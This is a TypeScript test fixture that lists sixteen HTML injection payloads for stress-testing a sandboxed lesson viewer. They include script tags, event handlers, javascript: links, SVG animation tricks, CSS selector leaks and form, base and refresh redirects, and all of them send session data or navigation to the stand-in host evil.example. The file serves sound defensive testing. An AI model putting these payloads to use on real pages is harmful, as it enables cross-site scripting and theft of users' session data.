// What lessons try that attack their reader. On a page that shows them without the frame each gets what it wants: `npm run
// stress` makes them there.

/** What attackers want to have. */
export const KEY = "lectern_secret";
/** Where attackers want requests to come. No request arrives there, but each is recorded. */
export const EVIL = "http://evil.example";
const STEAL = `fetch('${EVIL}/?'+sessionStorage.key)`;

export interface Attack {
  name: string;
  html: string;
  /** Comes about with a click of the reader. */
  isClicked?: boolean;
  /** Leads away from the page by itself. */
  leaves?: boolean;
}

export const attacks: Attack[] = [
  { name: "a script", html: `<script>${STEAL}</script>` },
  { name: "an event handler", html: `<img src="data:," onerror="${STEAL}">` },
  { name: "a javascript: link", html: `<a id="it" href="javascript:${STEAL};void 0">Next</a>`, isClicked: true },
  { name: "a form", html: `<form action="${EVIL}/" method="post"><button id="it">Go</button></form>`, isClicked: true },
  {
    name: "a button with an address of its own",
    html: `<form><button id="it" formaction="${EVIL}/">Go</button></form>`,
    isClicked: true,
  },
  { name: "a refresh", html: `<meta http-equiv="refresh" content="0;url=${EVIL}/">`, leaves: true },
  { name: "a frame with a document of its own", html: `<iframe srcdoc="<script>${STEAL}</script>"></iframe>` },
  { name: "a script in a drawing", html: `<svg><script>${STEAL}</script></svg>` },
  {
    name: "a link in a drawing",
    html: `<svg height="40" width="40"><a id="it" xlink:href="javascript:${STEAL};void 0"><rect height="40" width="40"/></a></svg>`,
    isClicked: true,
  },
  {
    name: "a link in a drawing that moves away from its address",
    html: `<svg height="40" width="40"><a id="it" href="#x"><set attributeName="target" to="_self"/><set attributeName="href" to="${EVIL}/"/><rect height="40" width="40"/></a></svg>`,
    isClicked: true,
  },
  {
    name: "styles that read what stands outside",
    html: `<style>#outside[value^="lectern_s"]{background:url(${EVIL}/?s)}</style>`,
  },
  {
    name: "a form for the top",
    html: `<form action="${EVIL}/" target="_top"><button id="it">Go</button></form>`,
    isClicked: true,
  },
  { name: "another base", html: `<base href="${EVIL}/"><img src="a.png">` },
  { name: "an object", html: `<object data="${EVIL}/a.html"></object>` },
  { name: "a stylesheet", html: `<link rel="stylesheet" href="${EVIL}/a.css">` },
  { name: "imported styles", html: `<style>@import url(${EVIL}/a.css);</style>` },
];
